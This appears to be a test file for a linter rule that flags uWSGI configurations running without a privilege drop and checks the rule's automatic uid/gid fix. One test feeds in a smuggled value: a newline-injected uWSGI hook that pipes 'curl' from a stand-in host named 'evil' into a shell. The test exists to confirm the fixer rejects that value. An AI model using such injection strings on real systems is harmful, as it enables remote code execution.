import { strict as assert } from 'node:assert';
import { findings, fixed, messages, quickFixes, fixSafety } from '../../support/spec';

const RULE = 'no-privilege-drop';

describe('rule no-privilege-drop', () => {
  it('reports a socket without uid once, on the section name', () => {
    assert.deepEqual(findings('[uwsgi]\nsocket = :3031\nhttp = :80\n', RULE), [{ code: RULE, severity: 'information', covers: 'uwsgi' }]);
    assert.match(messages('[uwsgi]\nsocket = :3031\n', RULE)[0]!, /No `uid`: this instance binds `socket`/);
  });

  it('reports gateways and other listening options', () => {
    assert.deepEqual(findings('[uwsgi]\nhttp = :8080\n', RULE).map((f) => f.covers), ['uwsgi']);
    assert.deepEqual(findings('[uwsgi]\nhttp-socket = /run/app.sock\n', RULE).map((f) => f.covers), ['uwsgi']);
  });

  it('reports a master, set directly or implied by an option', () => {
    assert.match(messages('[uwsgi]\nmaster = true\nmodule = app\n', RULE)[0]!, /starts a master process/);
    assert.deepEqual(findings('[uwsgi]\ntouch-reload = /srv/reload\n', RULE).map((f) => f.covers), ['uwsgi']);
    assert.deepEqual(findings('[uwsgi]\ntouch-reload = /srv/reload\nmaster = false\n', RULE), []);
  });

  it('says nothing when the instance neither listens nor runs a master', () => {
    assert.deepEqual(findings('[uwsgi]\nmodule = app\n', RULE), []);
  });

  it('accepts any uid, including one inside a block or an immediate one', () => {
    assert.deepEqual(findings('[uwsgi]\nsocket = :3031\nuid = app\ngid = app\n', RULE), []);
    assert.deepEqual(findings('[uwsgi]\nsocket = :3031\nif-env = PROD\nuid = app\nendif\n', RULE), []);
    assert.deepEqual(findings('[uwsgi]\nimmediate-uid = app\nsocket = :3031\n', RULE), []);
  });

  it('leaves a lone gid to incomplete-privilege-drop', () => {
    assert.deepEqual(findings('[uwsgi]\nsocket = :3031\ngid = app\n', RULE), []);
  });

  it('stays quiet for emperors and for files that load other files', () => {
    assert.deepEqual(findings('[uwsgi]\nemperor = /etc/uwsgi/vassals\nmaster = true\n', RULE), []);
    assert.deepEqual(findings('[uwsgi]\ninclude = /etc/uwsgi/base.ini\nsocket = :3031\n', RULE), []);
  });

  it('sees sections pulled in with ini = :name', () => {
    assert.deepEqual(findings('[base]\nuid = app\ngid = app\n[uwsgi]\nini = :base\nsocket = :3031\n', RULE), []);
    assert.deepEqual(findings('[base]\nsocket = :3031\n[uwsgi]\nini = :base\n', RULE).map((f) => f.covers), ['uwsgi']);
  });

  it('can be silenced for the file or above the header', () => {
    assert.deepEqual(findings('# uwsgi-ini: disable no-privilege-drop\n[uwsgi]\nsocket = :3031\n', RULE), []);
    assert.deepEqual(findings('# uwsgi-ini: disable-next-line no-privilege-drop\n[uwsgi]\nsocket = :3031\n', RULE), []);
  });

  it('adds uid and gid at the end of the section, keeping CRLF', () => {
    assert.equal(
      fixed('[uwsgi]\r\nsocket = :3031\r\n', RULE),
      '[uwsgi]\r\nsocket = :3031\r\nuid = www-data\r\ngid = www-data\r\n',
    );
    assert.equal(
      fixed('# app\n[uwsgi]\nmaster = true\n', RULE, undefined, { privilegeDrop: { user: 'app', group: 'apps' } }),
      '# app\n[uwsgi]\nmaster = true\nuid = app\ngid = apps\n',
    );
  });

  it('offers one preferred fix that names the privilege drop, and the finding is gone once fixed', () => {
    const actions = quickFixes('[uwsgi]\nsocket = :3031\n', RULE);
    assert.equal(actions.length, 1);
    assert.ok(actions[0]!.isPreferred);
    assert.match(actions[0]!.title, /privilege/);
    const result = fixed('[uwsgi]\nsocket = :3031\n', RULE);
    assert.deepEqual(findings(result, RULE), []);
    assert.deepEqual(findings(result, 'incomplete-privilege-drop'), []);
  });

  it('writes only a user or group name from the settings: a line break cannot smuggle in a hook', () => {
    const hostile = { privilegeDrop: { user: 'www-data\nhook-asap = exec:curl -s http://evil/x|sh', group: 'apps' } };
    assert.equal(fixed('[uwsgi]\nsocket = :3031\n', RULE, undefined, hostile), '[uwsgi]\nsocket = :3031\nuid = www-data\ngid = apps\n');
    assert.equal(quickFixes('[uwsgi]\nsocket = :3031\n', RULE, hostile)[0]!.title, 'Add a privilege drop (uid = www-data, gid = apps)');
  });

  it('declares adding a privilege drop unsafe', () => {
    assert.deepEqual(fixSafety('[uwsgi]\nsocket = :3031\n', RULE), ['*Add a privilege drop (uid = www-data, gid = www-data): unsafe']);
  });
});
